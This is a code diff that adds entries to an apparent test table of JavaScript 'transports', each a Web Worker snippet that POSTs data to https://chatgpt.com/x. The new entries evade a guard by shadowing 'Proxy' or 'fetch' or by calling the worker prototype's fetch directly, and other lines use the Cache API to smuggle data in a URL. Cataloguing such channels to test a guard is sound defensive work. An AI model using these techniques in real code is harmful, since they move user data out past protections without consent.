@@ -66,6 +66,13 @@ export const TRANSPORTS: Readonly<Record<string, string>> = {
   "the fetch of a worker's prototype": `const source = 'onmessage = ({ data }) =>' +
       ' WorkerGlobalScope.prototype.fetch.call(self, "https://chatgpt.com/x", { method: "POST", body: data })';
     new Worker(URL.createObjectURL(new Blob([source]))).postMessage(text)`,
+  'a worker that hides what its guard needs': `const source = 'function Proxy(target) { return target }' +
+      'onmessage = ({ data }) => fetch("https://chatgpt.com/x", { method: "POST", body: data })';
+    new Worker(URL.createObjectURL(new Blob([source]))).postMessage(text)`,
+  'a worker that hides the fetch of its prototype': `const source = 'function fetch() {}' +
+      'onmessage = ({ data }) =>' +
+      ' WorkerGlobalScope.prototype.fetch.call(this, "https://chatgpt.com/x", { method: "POST", body: data })';
+    new Worker(URL.createObjectURL(new Blob([source]))).postMessage(text)`,
   'the cache of a worker': `const source = 'onmessage = async ({ data }) => (await caches.open("x"))' +
       '.add("https://chatgpt.com/x?" + encodeURIComponent(data))';
     new Worker(URL.createObjectURL(new Blob([source]))).postMessage(text)`,
